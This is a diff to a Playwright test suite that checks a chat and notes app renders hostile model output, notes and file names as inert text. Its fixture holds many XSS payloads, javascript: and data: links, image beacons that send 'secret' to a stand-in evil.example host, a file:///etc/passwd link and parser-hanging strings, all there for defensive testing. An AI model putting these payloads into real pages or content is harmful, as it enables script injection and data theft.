@@ -1,88 +1,82 @@
 """What notes and models write is text to the page: it runs nothing, loads nothing, and leads nowhere by itself."""
 
 import socket
+import time
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page, Request, expect
+from playwright.sync_api import Page, expect
 
 from tests.agents import scripts
 from tests.agents.scripted import Call, Model
 from tests.agents.scripts import Cast
-from tests.page import sites
+from tests.page import payloads, sites
+from tests.page.payloads import PICTURE, Trap
 from tests.page.sites import answered, say
 
 pytestmark = pytest.mark.timeout(150)
 CHAT = "/app/chat/new"
-PICTURE = "<img src=x onerror=\"document.title='owned'\">"
-EVIL = "http://evil.example/steal"
-HOSTILE = f"""# <img src=x onerror="document.title='owned'">
+EVIL = f"{payloads.EVIL}/steal"
+HOSTILE = f"""# <img src=x onerror="owned(1)">
 
-<script>document.title = 'owned'</script>
+<script>owned(1)</script>
 <iframe src="{EVIL}"></iframe><style>body {{ display: none }}</style>
-<svg onload="document.title='owned'"></svg> <a href="javascript:document.title='owned'">html</a>
+<svg onload="owned(1)"></svg> <a href="javascript:owned(1)">html</a>
 
-![pixel]({EVIL}?data=secret) and ![[{EVIL}]] and [![inside]({EVIL}?in)](javascript:document.title='owned')
+![pixel]({EVIL}?data=secret) and ![[{EVIL}]] and [![inside]({EVIL}?in)](javascript:owned(1))
 
-[click](javascript:document.title='owned') [tab](java\tscript:document.title='owned')
-[upper](JaVaScRiPt:document.title='owned') [data](data:text/html,<script>parent.document.title='owned'</script>)
+[click](javascript:owned(1)) [tab](java\tscript:owned(1))
+[upper](JaVaScRiPt:owned(1)) [data](data:text/html,<script>parent.owned(1)</script>)
 [vb](vbscript:x) [blob](blob:http://x/1) [file](file:///etc/passwd) [mine](//evil.example/x)
-<javascript:document.title='owned'> <{EVIL}?angled>
+<javascript:owned(1)> <{EVIL}?angled>
 
-[outside]({EVIL}?clicked "title\\" onclick=document.title='owned'") [[javascript:document.title='owned'|wiki]]
+[outside]({EVIL}?clicked "title\\" onclick=owned(1)") [[javascript:owned(1)|wiki]]
 
-| <b onmouseover=document.title='owned'>cell</b> | `code <script>` |
+| <b onmouseover=owned(1)>cell</b> | `code <script>` |
 |---|---|
-| {{{{7*7}}}} | ${{document.title='owned'}} |
+| {{{{7*7}}}} | ${{owned(1)}} |
 
-```html" onmouseover="document.title='owned'
-</code></pre><script>document.title='owned'</script>
+```html" onmouseover="owned(1)
+</code></pre><script>owned(1)</script>
 ```
 
-> [!x" onclick="document.title='owned']
-- [x] <input autofocus onfocus="document.title='owned'">
+> [!x" onclick="owned(1)]
+- [x] <input autofocus onfocus="owned(1)">
 """
-
-
-def strangers(tab: Page, address: str) -> list[str]:
-    """Note every request that goes elsewhere."""
-    found: list[str] = []
-
-    def note(request: Request) -> None:
-        if not request.url.startswith(address):
-            found.append(request.url)
-
-    tab.on("request", note)
-    return found
 
 
 def check(tab: Page, place: str) -> None:
     """See that a place shows the text, without anything made of it but what the page itself draws."""
     node = tab.locator(place)
-    made = node.locator("img, script, iframe, style, svg:not(.k-icon), object, embed, link, meta, base")
+    own = "svg:not(.k-icon), form[action]"
+    made = node.locator(f"img, script, iframe, style, object, embed, link, meta, base, {own}")
     expect(made).to_have_count(0)
-    assert tab.title().replace(PICTURE, "").find("owned") < 0
+    all_links = node.locator("a")
     leads = "all => all.map(a => a.href).filter(a => !/^(https?|mailto):/.test(a))"
-    assert node.locator("a").evaluate_all(leads) == []
+    assert all_links.evaluate_all(leads) == []
     open_to = "all => all.filter(a => a.host !== location.host && !a.rel.includes('noopener')).map(a => a.href)"
-    assert node.locator("a").evaluate_all(open_to) == []
-    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => n.startsWith('on'))"
+    assert all_links.evaluate_all(open_to) == []
+    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => /^(on|style$)/.test(n))"
     assert node.locator("*").evaluate_all(handlers) == []
 
 
 @pytest.mark.parametrize("ending", ["\n", "\r\n", "\u2028\n"])
 def test_an_answer_runs_and_loads_nothing(tmp_path: Path, tab: Page, ending: str) -> None:
     with sites.serving(tmp_path, Model([[HOSTILE.replace("\n", ending)]]).open) as site:
-        elsewhere = strangers(tab, site.address)
+        trap = Trap(tab=tab, address=site.address)
         site.enter(tab, CHAT)
         say(tab, "Show me")
         answered(tab)
         for _ in range(2):  # as it came, and as it is kept
             expect(tab.locator(".k-answer")).to_contain_text("<script>")
             check(tab, ".k-answer")
+            for dead in tab.locator(".k-answer [title*='followed']").all():
+                dead.click()
+            tab.locator(".k-answer").hover()
+            trap.check()
             tab.reload()
 
-        assert elsewhere == []
+        trap.check()
 
 
 def test_what_agents_find_and_ask_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
@@ -90,19 +84,69 @@ def test_what_agents_find_and_ask_runs_and_loads_nothing(tmp_path: Path, tab: Pa
     found = scripts.select("Evil.md", reasoning=HOSTILE)
     model = Cast({"scout": [[ask], [found]], "task": [scripts.task(HOSTILE, ("Evil.md", "line:999", PICTURE))]})
     with sites.serving(tmp_path, model.open, notes={"Evil.md": HOSTILE}) as site:
-        elsewhere = strangers(tab, site.address)
+        trap = Trap(tab=tab, address=site.address)
         site.enter(tab, CHAT)
         tab.get_by_role("button", name="Scout", exact=True).click()
         say(tab, PICTURE)
         expect(tab.locator(".k-asked")).to_contain_text("<img src=x")
-        check(tab, "main")
+        check(tab, "main [role=log]")
         tab.locator(".k-asked").get_by_role("button", name=PICTURE).click()
         answered(tab)
         tab.locator("[data-finding=selection] > summary").click()
         expect(tab.locator("[data-finding=selection]")).to_contain_text("<script>")
-        check(tab, "main")
+        check(tab, "main [role=log]")
 
-        assert elsewhere == []
+        trap.check()
+
+
+def test_a_note_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
+    look = Call("search_vault", {"query": "evil"})
+    with sites.serving(tmp_path, Model([[look], ["See [[Evil]]."]]).open, notes={"Evil.md": HOSTILE}) as site:
+        trap = Trap(tab=tab, address=site.address)
+        site.enter(tab, CHAT)
+        say(tab, "Show me")
+        answered(tab)
+        tab.locator("details.k-steps > summary").click()
+        tab.locator("details.k-step > summary").click()
+        check(tab, ".k-steps")
+        tab.locator(".k-answer .k-cite").click()
+        expect(tab.locator(".k-pane")).to_contain_text("<script>")
+        check(tab, ".k-pane .k-prose")
+        trap.check()
+        tab.get_by_role("link", name="Open in full").click()
+        expect(tab.locator("main .k-prose").first).to_contain_text("<script>")
+        check(tab, "main .k-prose")
+
+        trap.check()
+
+
+def test_names_of_notes_and_conversations_are_text(tmp_path: Path, tab: Page) -> None:
+    name = "<svg onload=owned(1)>.md"
+    create = Call("create_file", {"path": "<img src=x onerror=owned(1)>.md", "content": PICTURE})
+    with sites.serving(tmp_path, Model([[create], [PICTURE]]).open, notes={name: "# X\n"}) as site:
+        trap = Trap(tab=tab, address=site.address)
+        site.enter(tab, CHAT)
+        say(tab, PICTURE)
+        answered(tab)
+        expect(tab.locator("[data-session]")).to_contain_text("<img src=x")
+        for place in (".k-list", "main [role=log]"):
+            check(tab, place)
+        tab.goto(f"{site.address}/app/notes")
+        expect(tab.locator(".k-list")).to_contain_text("<svg onload")
+
+        trap.check()
+
+
+def test_a_link_says_where_it_leads(tmp_path: Path, tab: Page) -> None:
+    text = f"[your bank]({EVIL}) and https://example.org/a and [https://example.org](http://evil.example/)"
+    with sites.serving(tmp_path, Model([[text]]).open) as site:
+        site.enter(tab, CHAT)
+        say(tab, "Links")
+        answered(tab)
+
+        expect(tab.locator(".k-answer a").nth(0)).to_have_text("your bank (evil.example)")
+        expect(tab.locator(".k-answer a").nth(1)).to_have_text("https://example.org/a")
+        expect(tab.locator(".k-answer a").nth(2)).to_have_text("https://example.org (evil.example)")
 
 
 def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, tab: Page) -> None:
@@ -121,7 +165,7 @@ def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, t
               await picture.decode().catch(note("picture"));
               const inline = document.createElement("script");
               try {
-                inline.textContent = "document.title = 'owned'";
+                inline.textContent = "owned(1)";
                 document.body.append(inline);
               } catch { tried.push("script"); }
               return tried;
@@ -133,3 +177,33 @@ def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, t
         with pytest.raises(BlockingIOError):
             elsewhere.accept()
         assert tab.title() == title
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 50_000,
+        "**a " * 20_000,
+        "`" * 30_000 + "a",
+        "> " * 3_000 + "x",
+        "- " * 5_000,
+        "\n" * 50_000,
+        "a|" * 20_000 + "\n|-|",
+        "![[" * 20_000,
+        "](" * 20_000,
+        "_a" * 20_000,
+        "* a\n\n" * 5_000,
+        "<http://" * 10_000,
+        "[a](" * 15_000,
+    ],
+    ids=range(13),
+)
+def test_no_text_holds_the_page_up(tmp_path: Path, tab: Page, text: str) -> None:
+    with sites.serving(tmp_path, Model([[f"{text}\n\nThe end."]]).open) as site:
+        site.enter(tab, CHAT)
+        say(tab, "Much")
+        answered(tab)
+        start = time.monotonic()
+        tab.get_by_label("Message", exact=True).fill("Still there?")
+
+        assert time.monotonic() - start < 10
